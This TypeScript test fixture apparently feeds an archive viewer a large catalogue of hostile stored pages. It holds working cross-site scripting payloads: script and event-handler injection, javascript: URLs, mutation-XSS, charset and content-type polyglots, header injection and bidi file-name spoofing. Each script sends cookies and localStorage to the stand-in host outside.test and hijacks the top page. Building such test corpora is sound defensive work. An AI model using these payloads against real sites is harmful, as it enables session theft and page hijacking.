/**
 * Responses that attack the reader who opens them from an archive. Each tries one way to run a script, to make a request
 * to another host, to navigate the page around it, or to look like something else.
 *
 * A script that runs writes `ran:<name>` to the console, reads the storage of its origin, asks the host `outside.test`,
 * and navigates the top page. Everything that needs no script asks `outside.test`.
 */
export const OUTSIDE = 'outside.test';
const OUT = `http://${OUTSIDE}`;

export interface StoredAttack {
  readonly name: string;
  readonly contentType: string;
  readonly body: Buffer;
  /** A path with its query; without it, the name is the path. */
  readonly path?: string;
  readonly headers?: readonly string[];
}

/** A script without quotes that end an attribute, and without `<`, `>` and `&`. */
function script(name: string): string {
  return (
    `console.log('ran:${name}');new Image().src='${OUT}/${name}';` +
    `try{console.log('storage:'+localStorage.secret+document.cookie)}catch(e){}try{top.location='${OUT}/top'}catch(e){}`
  );
}

const attacks: StoredAttack[] = [];

function add(name: string, contentType: string, body: string | Buffer, more: Partial<StoredAttack> = {}): void {
  attacks.push({ name, contentType, body: Buffer.from(body as string), ...more });
}

/** Pages. `$` in the body stands for the script. */
function pages(group: string, bodies: readonly string[], type = 'text/html; charset=utf-8'): void {
  bodies.forEach((body, i) => {
    const name = `${group}-${i}`;
    add(
      name,
      type,
      body.replaceAll('$', () => script(name)),
    );
  });
}

pages('script', [
  '<!doctype html><title>x</title><script>$</script>',
  '<script type=module>$</script><script src="evil.js"></script>',
  '<title></title><script>$</script></title>',
  `<title>${'&lt;script&gt;'}</title><svg><script>$</script></svg>`,
  '<svg><script href="evil.js"></script></svg><math><script>$</script></math>',
  '<div><template shadowrootmode=open><script>$</script></template></div>',
  '<template><script>$</script></template><noscript><script>$</script></noscript>',
  '<script\x0c>$</script><script/x>$</script><SCRIPT\n>$</SCRIPT >',
  '<scr\0ipt>$</scr\0ipt><script \0>$</script>',
  '<body><![CDATA[<script>$</script>]]>',
  '<frameset><frame src="javascript:$"><frame src="evil.html"></frameset>',
]);
pages('handler', [
  '<img src=x onerror="$">',
  '<body onload="$" onpageshow="$"><svg onload="$">',
  '<input autofocus onfocus="$"><details open ontoggle="$">x</details>',
  '<video><source onerror="$"></video><audio src=x onerror="$"></audio>',
  '<img/src=x/onerror="$"><img\nsrc=x\nonerror="$">',
  `<style>@keyframes k{}p{animation:k 1ms}</style><p onanimationstart="$" onanimationend="$">x</p>`,
  '<marquee onstart="$">x</marquee><svg><animate onbegin="$" attributeName=x dur=1s></svg>',
  '<svg><image href=x onerror="$"/><a onfocus="$" tabindex=0 autofocus>x</a></svg>',
  '<link rel=stylesheet href=missing.css onerror="$"><iframe onload="$"></iframe>',
  '<img src=x OnErRoR="$"><img src=x onerror\x0c=\x0c"$">',
  `<img ${'a=b '.repeat(1_200)}src=x onerror="$">`,
  '<div popover id=p onbeforetoggle="$"></div><dialog open oncancel="$" onclose="$"></dialog>',
]);
pages('javascript-url', [
  '<a href="javascript:$" id=click>x</a>',
  '<a href=" &#1; java&#10;script&colon;$" id=click>x</a>',
  '<iframe src="javascript:$"></iframe><object data="javascript:$"></object><embed src="javascript:$">',
  '<form action="javascript:$"><button formaction="javascript:$" id=click>x</button></form>',
  '<svg><a xlink:href="javascript:$" id=click><text y=20>x</text></a></svg>',
  '<svg><a id=click><animate attributeName=href values="javascript:$" dur=1ms fill=freeze /><text y=20>x</text></a></svg>',
  '<svg><a id=click><set attributeName="xlink:href" to="javascript:$" /><text y=20>x</text></a></svg>',
  '<math><mtext href="javascript:$" id=click>x</mtext></math><math xlink:href="javascript:$">x</math>',
  '<meta http-equiv=refresh content="0;url=javascript:$">',
  '<base href="javascript:$//"><a href="#" id=click>x</a>',
  '<area href="javascript:$" shape=default><map name=m><area href="javascript:$"></map>',
  '<a href="vbscript:$" id=click>x</a><a href="data:text/html,<script>$</script>">x</a>',
]);
pages('document', [
  `<iframe srcdoc="&lt;script&gt;$&lt;/script&gt;&lt;img src=${OUT}/srcdoc&gt;"></iframe>`,
  '<iframe src="data:text/html,<script>$</script>"></iframe>',
  '<object data="data:text/html,<script>$</script>"></object><embed src="data:text/html,<script>$</script>">',
  `<iframe src="${OUT}/frame"></iframe><frame src="${OUT}/frame">`,
  `<object data="${OUT}/object"><param name=movie value="${OUT}/movie"></object><embed src="${OUT}/embed">`,
  `<object codebase="${OUT}/" data=x type=text/html></object><applet code=x archive="${OUT}/a.jar"></applet>`,
  `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="&lt;script&gt;$&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;$&amp;lt;/script&amp;gt;'&gt;&lt;/iframe&gt;"></iframe>`,
  `<iframe srcdoc="&lt;link rel=preconnect href=${OUT}&gt;"></iframe>`,
  '<portal src="evil.html"></portal><fencedframe src="evil.html"></fencedframe>',
]);
pages('navigation', [
  `<meta http-equiv=refresh content="0;url=${OUT}/refresh">`,
  `<META HTTP-EQUIV=" Refresh " CONTENT="0 ; URL='${OUT}/refresh'"><meta http-equiv=refresh content="0,${OUT}">`,
  `<svg><meta http-equiv=refresh content="0;url=${OUT}/svg"></svg><math><meta http-equiv=refresh content="0;${OUT}"></math>`,
  `<base href="${OUT}/" target=_top><a href=x id=click>x</a><img src=y><link rel=stylesheet href=z>`,
  `<a href="${OUT}/top" target=_top id=click>x</a>`,
  `<a href="${OUT}/parent" target=_parent id=click>x</a><a href="${OUT}/new" target=_blank>x</a>`,
  `<form action="${OUT}/form" target=_top><input name=a value=b><button id=click>x</button></form>`,
  `<form id=f></form><button form=f formaction="${OUT}/formaction" formmethod=post id=click>x</button>`,
  `<form method=dialog action="${OUT}/f"><input type=image src="${OUT}/i" id=click></form>`,
  `<a href="//${OUTSIDE}/" id=click>x</a><a href="/\\${OUTSIDE}/">x</a><a href="http:${OUTSIDE}">x</a>`,
  `<a href="ftp://${OUTSIDE}/" id=click>x</a><a href="ws://${OUTSIDE}/">x</a><a href="mailto:a@${OUTSIDE}">x</a>`,
  `<a href="../../../../api/copies" id=click>x</a><img src="/api/copies"><link rel=stylesheet href="/api/copies">`,
  `<a href="http://site.test/evil.html" ping="${OUT}/ping" id=click>x</a>`,
]);
pages('request', [
  `<img src="${OUT}/img"><img srcset="${OUT}/a 1x, ${OUT}/b 2x"><picture><source srcset="${OUT}/c"><img></picture>`,
  `<link rel=stylesheet href="${OUT}/css"><link rel=icon href="${OUT}/icon"><link rel=preload as=image href="${OUT}/p">`,
  `<link rel=preconnect href="${OUT}"><link rel=dns-prefetch href="${OUT}"><link rel=prefetch href="${OUT}/prefetch">`,
  `<link rel="preconnect stylesheet" href="${OUT}"><link rel=prerender href="${OUT}"><link rel=modulepreload href="${OUT}">`,
  `<link rel=preload as=image imagesrcset="${OUT}/a 1x"><link rel=manifest href="${OUT}/m"><html manifest="${OUT}/m">`,
  `<body background="${OUT}/bg"><table background="${OUT}/t"><tr><td background="${OUT}/td">x</table>`,
  `<video src="${OUT}/v" poster="${OUT}/p" autoplay><track default src="${OUT}/t"></video><audio src="${OUT}/a" autoplay>`,
  `<svg><image href="${OUT}/i"/><use href="${OUT}/u#x"/><filter><feImage href="${OUT}/f"/></filter></svg>`,
  `<svg><style>@import "${OUT}/s";</style><rect fill="url(${OUT}/fill#x)" mask="url(${OUT}/mask)"/></svg>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${OUT}/spec"]}]}</script>`,
  `<input type=image src="${OUT}/i"><bgsound src="${OUT}/b"><img lowsrc="${OUT}/l" dynsrc="${OUT}/d">`,
  `<meta name=referrer content=unsafe-url><img src="${OUT}/r" referrerpolicy=unsafe-url crossorigin>`,
  `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${OUT}/report"><img src="${OUT}/x">`,
  `<a href="${OUT}" attributionsrc="${OUT}/attr">x</a><img attributionsrc="${OUT}/attr">`,
  `<img loading=lazy src="${OUT}/lazy"><iframe loading=lazy src="${OUT}/lazy"></iframe>`,
  `<div><template shadowrootmode=open><img src="${OUT}/shadow"><link rel=preconnect href="${OUT}"></template></div>`,
]);
pages('css', [
  `<style>@import "${OUT}/a";@import url(${OUT}/b);p{background:url(${OUT}/c)}</style><p style="background:url('${OUT}/d')">x`,
  `<style>@font-face{font-family:F;src:url("${OUT}/f")}p{font-family:F;list-style:image-set("${OUT}/i" 1x)}</style><p>x`,
  `<style>p{background:\\75rl(${OUT}/e);cursor:url(${OUT}/k),auto;content:url("\\68ttp://${OUTSIDE}/h")}</style><p>x`,
  `<style>p{background:url("foo:\\3c/style>\\3clink rel=preconnect href=${OUT}>\\3cscript>$\\3c/script>")}</style><p>x`,
  `<style>p{--x:url(${OUT}/v);background:var(--x);background:-webkit-image-set(url(${OUT}/s) 1x)}</style><p>x`,
  `<p style="background:expression($);behavior:url(${OUT}/htc);-moz-binding:url(${OUT}/xbl)">x`,
  `<link rel=stylesheet href="evil.css"><link rel=stylesheet href="data:text/css,p{background:url(${OUT}/data)}"><p>x`,
  `<style>@charset "x";@namespace url(${OUT}/n);/*</style><link rel=preconnect href=${OUT}>*/</style>`,
  `<style media="x" onload="$">@import/**/"${OUT}/c" layer(x) supports(a:b) screen;</style>`,
]);
pages('mutation', [
  `<noscript><p title="</noscript><img src=x onerror='$'>"></noscript>`,
  `<noscript><xmp></noscript><!-- </xmp><link rel=preconnect href=${OUT}><img src=x onerror="$"> -->`,
  `<svg><style><img src=x onerror="$"><link rel=preconnect href=${OUT}></style></svg>`,
  `<svg><p><style><!--</style><img title="--><img src=x onerror='$'><link rel=preconnect href=${OUT}>"></p></svg>`,
  `<svg><p><xmp><a title="</xmp><link rel=preconnect href=${OUT}><img src=x onerror='$'>">`,
  `<svg><p><![CDATA[><link rel=preconnect href=${OUT}><img src=x onerror="$">]]>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror='$'>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="$"><link rel=preconnect href=${OUT}>`,
  `<svg></p><style><a id="</style><img src=x onerror='$'><link rel=preconnect href=${OUT}>">`,
  `<svg><title><style><a title="</style><link rel=preconnect href=${OUT}><img src=x onerror='$'>">`,
  `<select><style><!--</select><link rel=preconnect href=${OUT}><img src=x onerror="$">--></style>`,
  `<textarea><!--</textarea><img src=x onerror="$"><link rel=preconnect href=${OUT}>-->`,
  `<!--><img src=x onerror="$"><!---><link rel=preconnect href=${OUT}>--!><img src=x onerror="$">-->`,
  `<iframe><!--</iframe><img src=x onerror="$"><link rel=preconnect href=${OUT}>-->`,
  `<plaintext></plaintext><script>$</script>`,
  `<a title='<img src="x" onerror="$"><link rel=preconnect href="${OUT}">'>x</a>`,
  `<svg><desc><noembed><a title="</noembed><link rel=preconnect href=${OUT}>"></desc></svg>`,
  `<svg><foreignObject><math><annotation-xml encoding="text/html"><style><link rel=preconnect href=${OUT}></style>`,
  `<link ${'a=b '.repeat(1_200)}rel=preconnect href="${OUT}">`,
  `<noframes><a title="</noframes><link rel=preconnect href=${OUT}>"></noframes><iframe srcdoc></iframe>`,
  `<script><!--<script></script><link rel=preconnect href=${OUT}><img src=x onerror="$">--></script>`,
  `<img src=x title="\`onerror='$'"><img src="x\`\`onerror=$"><div style="x:\\"onmouseover='$'">x`,
]);
pages(
  'svg',
  [
    `<svg xmlns="http://www.w3.org/2000/svg" onload="$"><script>$</script><image href="${OUT}/i"/></svg>`,
    `<?xml version="1.0"?><?xml-stylesheet href="${OUT}/s.css"?><svg xmlns="http://www.w3.org/2000/svg"><style>@import "${OUT}/i";</style></svg>`,
    `<!DOCTYPE svg [<!ENTITY x "&#60;script xmlns='http://www.w3.org/1999/xhtml'>$&#60;/script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "$">]><svg xmlns="http://www.w3.org/2000/svg"/>`,
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>$</h:script><h:link rel="preconnect" href="${OUT}"/><h:img src="x" onerror="$"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:_h="http://www.w3.org/1999/xhtml"><_h:link rel="preconnect" href="${OUT}"/><_h:script>$</_h:script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="$"><iframe src="javascript:$"/></body></foreignObject></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:$"><text id="click" y="20">x</text></a><use x:href="data:image/svg+xml,&lt;svg onload='$'/&gt;#a"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><style><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="${OUT}"/></style></svg>`,
  ],
  'image/svg+xml',
);
pages(
  'xhtml',
  [
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>$</script></head><body onload="$"><img src="x" onerror="$"/></body></html>`,
    `<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>$</x:script><x:link rel="preconnect" href="${OUT}"/><x:base href="${OUT}/"/></x:html>`,
    `<html xmlns="http://www.w3.org/1999/xhtml"><style><link rel="preconnect" href="${OUT}"/></style><title><script>$</script></title></html>`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`,
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>$</script></html></xsl:template></xsl:stylesheet></x>`,
    `<html xmlns="http://www.w3.org/1999/xhtml"><noscript><link rel="preconnect" href="${OUT}"/></noscript><iframe srcdoc="&lt;script>$&lt;/script>"></iframe></html>`,
  ],
  'application/xhtml+xml',
);
pages(
  'xml',
  [
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><x/>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">$</x:script>`,
    `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${OUT}/x.dtd" [<!ENTITY % e SYSTEM "${OUT}/e">%e;]><x>&y;</x>`,
    `<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;script&gt;$&lt;/script&gt;</title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>$</script></div></content><link href="javascript:$"/></feed>`,
  ],
  'application/xml',
);
pages(
  'atom',
  ['<feed xmlns="http://www.w3.org/2005/Atom"><script xmlns="http://www.w3.org/1999/xhtml">$</script></feed>'],
  'application/atom+xml',
);
pages('markdown', ['# x\n<script>$</script>\n[x](javascript:$)'], 'text/markdown');
pages('plain', ['<!doctype html><script>$</script>'], 'text/plain');

/** Pages in charsets that hide markup from a reader of another charset. */
const HIDDEN = (name: string) => `<script>${script(name)}</script>`;
add('charset-utf7', 'text/html; charset=utf-7', `+ADw-script+AD4-${script('charset-utf7')}+ADw-/script+AD4-`);
add(
  'charset-meta-utf7',
  'text/html',
  `<meta charset=utf-7>+ADw-script+AD4-${script('charset-meta-utf7')}+ADw-/script+AD4-`,
);
add('charset-utf16', 'text/html; charset=utf-16le', Buffer.from(HIDDEN('charset-utf16'), 'utf16le'));
add('charset-utf16-mark', 'text/html', Buffer.from(`\ufeff${HIDDEN('charset-utf16-mark')}`, 'utf16le'));
add(
  'charset-utf16-meta',
  'text/html',
  Buffer.concat([Buffer.from('<meta charset=utf-16>'), Buffer.from(HIDDEN('charset-utf16-meta'), 'utf16le')]),
);
for (const [i, charset] of [
  'iso-2022-jp',
  'shift_jis',
  'gbk',
  'big5',
  'euc-kr',
  'gb18030',
  'hz-gb-2312',
  'x-user-defined',
  'utf-32',
].entries()) {
  const name = `charset-${charset}`;
  const lead = charset === 'iso-2022-jp' ? '\x1b$B' : charset === 'hz-gb-2312' ? '~{' : '\x81';
  const page = `<img alt="${lead}"><img alt=" src=x onerror=${'"'}${script(name)}${'"'}${lead}"><link rel=preconnect href=${OUT}>\x1b(B`;
  add(name, `text/html; charset=${charset}`, Buffer.from(page, 'latin1'));
  add(`${name}-meta`, 'text/html', Buffer.from(`<meta charset=${charset}>${page}${HIDDEN(`${name}-meta`)}`, 'latin1'), {
    path: `/c${i}`,
  });
}
add(
  'charset-jp-escape',
  'text/html',
  Buffer.from(
    `<script>var x="\x1b(J\\";${script('charset-jp-escape')}//"</script><p title="\x1b$B"><img src=x onerror="${script('charset-jp-escape')}">\x1b(B">`,
    'latin1',
  ),
);

/** Content whose type is another than its bytes say. */
const PAGE = (name: string) => `<!doctype html><html><body onload="${script(name)}"><script>${script(name)}</script>`;
for (const type of [
  '',
  'image/png',
  'image/gif',
  'text/css',
  'application/json',
  'text/javascript',
  'application/octet-stream',
  'font/woff2',
  'video/mp4',
  'application/pdf',
  'multipart/x-mixed-replace',
  'message/rfc822',
  'application/x-shockwave-flash',
  'unknown/unknown',
  'text/html,text/plain',
  'text/xml',
  'application/wasm',
  'text/vtt',
  'image/tiff',
  'application/hta',
  'text/calendar',
  'application/mathml+xml',
  'image/svg+xml',
]) {
  const name = `type-${type.replace(/\W/g, '-')}`;
  add(name, type, PAGE(name));
}
add('polyglot-gif', 'image/gif', `GIF89a/*${PAGE('polyglot-gif')}*/=1;${script('polyglot-gif')}`);
add('polyglot-gif-page', 'text/html', `GIF89a/*<script>*/=1;${script('polyglot-gif-page')}</script>`);
add('polyglot-pdf', 'text/html', `%PDF-1.7\n${PAGE('polyglot-pdf')}`);
add(
  'polyglot-jpeg',
  'image/jpeg',
  Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe]), Buffer.from(PAGE('polyglot-jpeg'))]),
);
add(
  'mhtml',
  'multipart/related',
  `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n${PAGE('mhtml')}`,
);

/** Headers that a careless server passes on. */
const RISKY = [
  'Refresh',
  `0;url=${OUT}/refresh`,
  'Link',
  `<${OUT}/l.css>; rel=stylesheet, <${OUT}>; rel=preconnect`,
  'Set-Cookie',
  'session=stolen',
  'Content-Security-Policy',
  `default-src * 'unsafe-inline'; report-uri ${OUT}/r`,
  'Access-Control-Allow-Origin',
  '*',
  'Speculation-Rules',
  `"${OUT}/rules"`,
  'Location',
  `${OUT}/location`,
  'Service-Worker-Allowed',
  '/',
  'Clear-Site-Data',
  '"*"',
];
add('headers', 'text/html', PAGE('headers'), { headers: RISKY });
add('header-type', `text/html; charset="utf-8\\"x"`, PAGE('header-type'));
add('sniff-nul', 'text/html', `\0\0${PAGE('sniff-nul')}`);

/** Names of files and addresses. */
add('file-name', 'application/x-msdownload', 'MZ', { path: '/a%22%0d%0aSet-Cookie:%20a=b/..%2f..%2f%e2%80%aegpj.exe' });
add('file-name-page', 'application/octet-stream', PAGE('file-name-page'), {
  path: '/x.html;filename=evil.html?a="onload="',
});
add('bidi', 'text/html', `<title>\u202egnp.exe</title><p dir=rtl>\u2066\u202e${PAGE('bidi')}`, {
  path: '/%E2%80%AE%E2%81%A6?q=%3Cscript%3E',
});

add('evil.js', 'text/javascript', script('evil.js'));
add('evil.html', 'text/html', PAGE('evil.html'));
add(
  'evil.css',
  'text/css',
  `@import "${OUT}/css";p{background:url(${OUT}/css-p)}body{background:url("javascript:${script('evil.css')}")}`,
);
add(
  'evil.xsl',
  'application/xslt+xml',
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${script('evil.xsl')}</script><img src="${OUT}/xsl"/></html></xsl:template></xsl:stylesheet>`,
);

export const STORED_ATTACKS: readonly StoredAttack[] = attacks;
export const ATTACKED_SITE = 'http://site.test';

export function urlOfAttack({ name, path }: StoredAttack): string {
  return ATTACKED_SITE + (path ?? `/${name}`);
}
